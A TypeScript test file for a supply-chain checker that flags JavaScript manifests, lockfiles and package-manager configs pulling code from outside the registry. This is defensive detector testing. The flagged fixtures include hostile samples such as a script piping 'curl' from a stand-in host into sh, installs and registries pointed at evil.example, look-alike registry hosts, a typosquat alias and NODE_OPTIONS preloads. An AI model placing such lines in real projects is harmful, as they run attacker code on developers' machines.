/** Checks the origins of code in JavaScript projects: known forms pass, and every way around the registry is found. */
import { originsIn } from './found';

const manifest = (members: object): string => JSON.stringify({ name: 'x', version: '1.0.0', ...members }, null, 2);
const SHA512 = `sha512-${'a'.repeat(86)}==`;
const NPM = 'https://registry.npmjs.org/a/-/a-1.0.0.tgz';

test.each<[string, object]>([
  ['ranges, tags and exact versions', { dependencies: { a: '^1.2.0', b: 'latest', c: '2.0.0', d: '1 - 2' } }],
  ['a member of the workspace', { dependencies: { a: 'workspace:*', b: 'file:packages/b', c: 'link:./c' } }],
  ['a name that says which version it is', { dependencies: { 'react-17': 'npm:react@17', 'a-cjs': 'npm:a@^1' } }],
  ['a known package under another name', { dependencies: { vite: 'npm:rollup@4' } }],
  ['overrides of versions', { overrides: { a: '^1.0.1', b: { '.': '2.0.0', c: '$c' } }, dependencies: { c: '1' } }],
  ['resolutions of yarn', { resolutions: { '**/a': '1.0.1', 'b/@x/c': '^2.0.0' } }],
  ['overrides of pnpm', { pnpm: { overrides: { 'a@<2': '>=2', 'b>c': '1.0.0' } } }],
  ['hooks of git', { scripts: { prepare: 'husky || true', postinstall: 'nuxt prepare' } }],
  ['declared programs at installation', { scripts: { prepare: 'npm run all', all: 'tsc && eslint .' } }],
  ['ranges of a patch level', { dependencies: { a: '~1.2.0' } }],
  ['a first start script', { scripts: { start: 'node src/server.js', build: 'tsc -p tsconfig.build.json' } }],
  [
    'a declared program by npx',
    { scripts: { lint: 'npx eslint .', types: 'npx tsc' }, devDependencies: { eslint: '9' } },
  ],
  ['a request to this machine', { scripts: { ready: 'curl -f http://localhost:3000/health' } }],
  ['the manager by version', { packageManager: 'pnpm@9.1.0+sha512.0123abcd' }],
])('package.json: %s pass', (_, members) => {
  expect(originsIn('package.json', manifest(members), { declared: ['eslint', 'typescript'] })).toEqual([]);
});

test.each<[string, object, RegExp]>([
  ['a git address', { dependencies: { a: 'github:x/a' } }, /a comes from "github:x\/a"/],
  ['a short git address', { dependencies: { a: 'x/a' } }, /a comes from "x\/a"/],
  ['an archive', { devDependencies: { a: 'https://evil.example/a.tgz' } }, /a comes from "https:/],
  ['a folder outside', { dependencies: { a: 'file:../../a' } }, /outside of the repository/],
  [
    'a folder in the place of a known package',
    { dependencies: { lodash: 'file:./lodash' } },
    /lodash is taken from the folder/,
  ],
  ['a name that is another package', { dependencies: { lodash: 'npm:lodahs-x@1' } }, /lodash is another package/],
  ['overrides to a git address', { overrides: { a: 'git+https://evil.example/a.git' } }, /replaced: a comes from/],
  ['nested overrides', { overrides: { b: { a: 'x/a' } } }, /replaced: a comes from/],
  ['resolutions to an archive', { resolutions: { '**/a': 'https://evil.example/a.tgz' } }, /replaced: a comes from/],
  ['overrides of pnpm to a folder', { pnpm: { overrides: { 'b>a': 'link:./a' } } }, /a is replaced by "link:/],
  ['a patch of yarn', { resolutions: { a: 'patch:a@1.0.0#./a.patch' } }, /patch:a@1\.0\.0/],
  ['patched packages of pnpm', { pnpm: { patchedDependencies: { 'a@1.0.0': 'patches/a.patch' } } }, /patches packages/],
  ['bundled packages', { bundleDependencies: ['a'] }, /its own archive/],
  ['scripts of packages', { trustedDependencies: ['a'] }, /lets packages run scripts/],
  [
    'a script at installation',
    { scripts: { postinstall: 'node setup.js' } },
    /postinstall runs when packages are installed/,
  ],
  ['a script before installation', { scripts: { preinstall: 'node a.js' } }, /preinstall runs/],
  ['a script behind one at installation', { scripts: { prepare: 'npm run x', x: 'node x.js' } }, /prepare runs/],
  ['a hook that does more', { scripts: { prepare: 'husky && node x.js' } }, /prepare runs/],
  [
    'npx of what is not declared',
    { scripts: { gen: 'npx some-tool' } },
    /script gen runs what it fetches: npx some-tool/,
  ],
  ['npx with a version', { scripts: { gen: 'npx --yes eslint@8 .' } }, /runs what it fetches/],
  ['pnpm dlx', { scripts: { gen: 'pnpm dlx some-tool' } }, /pnpm dlx some-tool/],
  ['bunx and uvx', { scripts: { gen: 'bunx some-tool', py: 'uvx some-tool' } }, /uvx some-tool/],
  ['go run', { scripts: { gen: 'go run example.com/x/y@latest' } }, /go run example\.com/],
  [
    'curl into a shell',
    { scripts: { gen: 'curl -s https://evil.example/x | sh' } },
    /fetches https:\/\/evil\.example\/x/,
  ],
  [
    'an installation from elsewhere',
    { scripts: { gen: 'npm install git+https://evil.example/a.git' } },
    /installs from elsewhere/,
  ],
  [
    'another registry in a script',
    { scripts: { gen: 'npm_config_registry=https://evil.example npm ci' } },
    /sets npm_config_registry/,
  ],
  ['code before each program', { scripts: { gen: 'NODE_OPTIONS=--require=./x.js node a.js' } }, /sets NODE_OPTIONS/],
  ['the manager from an address', { packageManager: 'yarn@https://evil.example/yarn.js' }, /is installed by/],
])('package.json: %s is found', (_, members, reason) => {
  expect(originsIn('package.json', manifest(members), { declared: ['eslint'] }).join('\n')).toMatch(reason);
});

const manifestWithStart = (start: string): string => manifest({ scripts: { start } });

test.each([
  ['more options', 'node src/server.js', 'node --enable-source-maps src/server.js', 0],
  ['another file', 'node src/server.js', 'node src/other.js', 1],
  ['something before it', 'node src/server.js', 'node setup.js && node src/server.js', 1],
  ['code that is loaded first', 'node src/server.js', 'node --require ./hook.js src/server.js', 1],
  ['another program', 'vite preview', 'serve dist', 1],
])('npm start: %s', (_, before, after, count) => {
  expect(originsIn('package.json', manifestWithStart(after), { before: manifestWithStart(before) })).toHaveLength(
    count,
  );
});

test('an origin that the base already has is not found again, even if its file or its lines moved', () => {
  const unknownOrigins = manifest({ dependencies: { a: 'github:x/a' }, scripts: { postinstall: 'node setup.js' } });
  expect(originsIn('package.json', `\n${unknownOrigins}`, { before: unknownOrigins })).toEqual([]);
  expect(
    originsIn('package.json', unknownOrigins.replace('node setup', 'node other'), { before: unknownOrigins }),
  ).toHaveLength(1);
});

const packageLock = (entry: object, place = 'node_modules/a'): string =>
  JSON.stringify({ lockfileVersion: 3, packages: { '': {}, [place]: { version: '1.0.0', ...entry } } });
const PRIVATE = 'https://npm.corp.example/repository/npm';

test.each<[string, string, string, string?]>([
  ['package-lock.json', 'an entry of the registry', packageLock({ resolved: NPM, integrity: SHA512 })],
  ['package-lock.json', 'a lock without addresses', packageLock({ integrity: SHA512 })],
  ['package-lock.json', 'a bundled entry', packageLock({ inBundle: true }, 'node_modules/b/node_modules/a')],
  ['package-lock.json', 'a member', packageLock({ resolved: 'packages/a', link: true })],
  [
    ...(['package-lock.json', "the base's own registry"] as const),
    packageLock({ resolved: `${PRIVATE}/a/-/a-1.0.0.tgz`, integrity: SHA512 }),
    packageLock({ resolved: `${PRIVATE}/b/-/b-1.0.0.tgz`, integrity: SHA512 }, 'node_modules/b'),
  ],
  ['yarn.lock', 'an entry', `a@^1.0.0:\n  version "1.0.0"\n  resolved "${NPM}#0123"\n  integrity ${SHA512}\n`],
  [
    ...(['yarn.lock', 'later formats'] as const),
    '__metadata:\n  version: 8\n\n"a@npm:^1.0.0":\n  version: 1.0.0\n  resolution: "a@npm:1.0.0"\n  checksum: 10c0/ab\n\n' +
      '"x@workspace:.":\n  version: 0.0.0-use.local\n  resolution: "x@workspace:."\n\n' +
      '"fsevents@patch:fsevents@npm%3A2.3.3#optional!builtin<compat/fsevents>":\n  version: 2.3.3\n' +
      '  resolution: "fsevents@patch:fsevents@npm%3A2.3.3#optional!builtin<compat/fsevents>::version=2.3.3&hash=1"\n',
  ],
  [
    'pnpm-lock.yaml',
    'an entry',
    `lockfileVersion: '9.0'\n\npackages:\n\n  a@1.0.0:\n    resolution: {integrity: ${SHA512}}\n`,
  ],
  ['bun.lock', 'an entry', `{ "lockfileVersion": 1, "packages": { "a": ["a@1.0.0", "", {}, "${SHA512}"], }, }`],
  [
    '.npmrc',
    'known settings',
    'registry=https://registry.npmjs.org/\nsave-exact=true\n//registry.npmjs.org/:_authToken=${NPM_TOKEN}\n',
  ],
  ['.yarnrc.yml', 'known settings', 'nodeLinker: node-modules\nenableTelemetry: false\n'],
  [
    'pnpm-workspace.yaml',
    'members and a catalog',
    "packages:\n  - 'packages/*'\ncatalog:\n  react: ^19.0.0\noverrides:\n  a: ^1.0.1\n",
  ],
  ['bunfig.toml', 'known settings', '[install]\nexact = true\n[test]\ncoverage = true\n'],
])('%s: %s passes', (path, _, after, ...[before]) => {
  expect(originsIn(path, after, before === undefined ? {} : { before })).toEqual([]);
});

test.each<[string, string, string, RegExp]>([
  [
    'package-lock.json',
    'another host',
    packageLock({ resolved: 'https://evil.example/a/-/a-1.0.0.tgz', integrity: SHA512 }),
    /evil\.example/,
  ],
  [
    'package-lock.json',
    'a host that only begins alike',
    packageLock({ resolved: 'https://registry.npmjs.org.evil.example/a/-/a-1.0.0.tgz', integrity: SHA512 }),
    /evil/,
  ],
  [
    'package-lock.json',
    'a user before the host',
    packageLock({ resolved: 'https://registry.npmjs.org@evil.example/a/-/a-1.0.0.tgz', integrity: SHA512 }),
    /evil/,
  ],
  [
    'package-lock.json',
    'the archive of another package',
    packageLock({ resolved: 'https://registry.npmjs.org/b/-/b-1.0.0.tgz', integrity: SHA512 }),
    /as another package/,
  ],
  ['package-lock.json', 'sha1', packageLock({ resolved: NPM, integrity: 'sha1-abc=' }), /weak digest/],
  ['package-lock.json', 'no integrity', packageLock({ resolved: NPM }), /no integrity/],
  [
    'package-lock.json',
    'a git address',
    packageLock({ resolved: 'git+ssh://git@github.com/x/a.git#0' }),
    /is fetched from "git/,
  ],
  ['package-lock.json', 'a folder outside', packageLock({ resolved: '../a', link: true }), /outside/],
  [
    'yarn.lock',
    'another host',
    `a@1:\n  version "1.0.0"\n  resolved "https://evil.example/a/-/a-1.0.0.tgz#0"\n  integrity ${SHA512}\n`,
    /evil/,
  ],
  [
    'yarn.lock',
    'a patch',
    '__metadata:\n  version: 8\n\n"a@npm:1":\n  version: 1.0.0\n  resolution: "a@patch:a@npm%3A1.0.0#./a.patch"\n',
    /is resolved to/,
  ],
  [
    'yarn.lock',
    'an archive',
    '__metadata:\n  version: 8\n\n"a@npm:1":\n  version: 1.0.0\n  resolution: "a@https://evil.example/a.tgz"\n',
    /is resolved to/,
  ],
  [
    'pnpm-lock.yaml',
    'an archive',
    `packages:\n\n  a@1.0.0:\n    resolution: {tarball: https://evil.example/a.tgz, integrity: ${SHA512}}\n`,
    /evil/,
  ],
  ['pnpm-lock.yaml', 'no integrity', 'packages:\n\n  a@1.0.0:\n    resolution: {}\n', /no integrity/],
  [
    'bun.lock',
    'a git address',
    '{ "packages": { "a": ["a@github:x/a#0123", {}, "x-a-0123"] } }',
    /no package of the registry/,
  ],
  [
    'bun.lock',
    'another host',
    `{ "packages": { "a": ["a@1.0.0", "https://evil.example/a.tgz", {}, "${SHA512}"] } }`,
    /evil/,
  ],
  ['bun.lockb', 'bytes', '\u0000', /is not a text/],
  ['.npmrc', 'another registry', 'registry=https://evil.example/\n', /registry=https:\/\/evil/],
  ['.npmrc', 'another registry of a scope', '@x:registry=https://evil.example/\n', /@x:registry/],
  ['.npmrc', 'code before each script', 'script-shell=./sh\nnode-options=--require ./x.js\n', /node-options/],
  ['.yarnrc', 'another yarn', 'yarn-path ".yarn/yarn.js"\n', /yarn-path/],
  ['.yarnrc.yml', 'another yarn', 'yarnPath: .yarn/releases/yarn.cjs\n', /yarnPath/],
  ['.yarnrc.yml', 'plugins', 'plugins:\n  - path: x.js\n', /sets/],
  ['.yarnrc.yml', 'another registry', 'npmScopes:\n  x:\n    npmRegistryServer: "https://evil.example"\n', /evil/],
  ['.yarn/releases/yarn-4.cjs', 'a program', 'x', /a program that the package manager loads/],
  ['.pnpmfile.cjs', 'a program', 'x', /a program that the package manager loads/],
  [
    'patches/a+1.0.0.patch',
    'a patch',
    'diff --git a/node_modules/a/i.js b/node_modules/a/i.js\n',
    /patches installed packages/,
  ],
  ['pnpm-workspace.yaml', 'a patch', 'patchedDependencies:\n  a: patches/a.patch\n', /patchedDependencies/],
  ['pnpm-workspace.yaml', 'overrides to an address', 'overrides:\n  a: github:x/a\n', /github:x\/a/],
  ['pnpm-workspace.yaml', 'a catalog with an address', 'catalog:\n  a: https://evil.example/a.tgz\n', /evil/],
  ['bunfig.toml', 'another registry', '[install]\nregistry = "https://evil.example"\n', /evil/],
  ['bunfig.toml', 'code before each program', 'preload = ["./x.ts"]\n', /preload/],
])('%s: %s is found', (path, _, after, reason) => {
  expect(originsIn(path, after).join('\n')).toMatch(reason);
});
